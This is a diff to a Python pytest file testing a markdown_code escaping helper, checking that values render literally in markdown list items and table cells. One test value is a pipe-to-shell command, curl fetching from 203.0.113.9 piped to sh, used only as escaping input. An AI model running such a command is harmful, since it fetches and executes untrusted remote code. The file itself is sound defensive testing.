@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import html as _html
+import re
+
 import orjson
 import pytest
 
@@ -54,12 +57,29 @@ def test_markdown_neutralises_markup_tables_and_lines() -> None:
 
 
 def test_markdown_code_spans_stay_closed() -> None:
-    assert markdown_code("a|c") == "`a\\|c`"
+    assert markdown_code("arn:aws:lambda:r:1:function:f") == "`arn:aws:lambda:r:1:function:f`"
     # a backtick cannot be shown in a span: escaped text, never a look-alike (a pasted
     # `--case '/cases/x'id''` would name another folder)
     assert markdown_code("--case '/cases/x`id'") == "--case '/cases/x\\`id'"
     assert markdown_code("fn<script>") == "fn&lt;script&gt;"
     assert markdown_code("") == ""
+
+
+@pytest.mark.parametrize("value", ["curl -s http://203.0.113.9/x|sh", "a|b", "plain", "x `y` <z>"])
+def test_a_value_reads_as_itself_in_a_table_and_out_of_one(value: str) -> None:
+    # A GFM renderer (markdown-it, as rich uses): in a list item and in a table cell the
+    # value shows as the case holds it, `|` as `|` (a span showed `\\|` outside a table)
+    from markdown_it import MarkdownIt
+
+    renderer = MarkdownIt("commonmark").enable("table")
+
+    def shown(page: str) -> list[str]:
+        text = re.sub(r"<[^>]+>", "", renderer.render(page))
+        return [line for line in _html.unescape(text).splitlines() if line]
+
+    cell = markdown_code(value)
+    assert shown(f"- env X: {cell}\n") == [f"env X: {value}"]
+    assert shown(f"| name | value |\n|---|---|\n| X | {cell} |\n") == ["name", "value", "X", value]
 
 
 def test_csp_allows_only_the_given_inline_code() -> None:
